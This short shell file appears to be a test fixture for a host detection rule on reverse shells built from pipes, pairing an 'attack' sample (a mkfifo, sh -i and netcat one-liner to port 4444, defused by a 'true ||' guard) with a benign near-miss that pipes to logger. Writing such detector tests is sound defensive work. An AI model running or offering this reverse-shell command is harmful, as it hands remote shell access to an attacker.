# rule: Reverse shell through pipes
# where: host
attack() {
    sh -c 'rm -f f; mkfifo f; true || cat f | sh -i 2>&1 | nc 127.0.0.1 4444 > f'
}
near_miss() {
    sh -c 'rm -f f; mkfifo f; true || cat f | logger -t app'
}
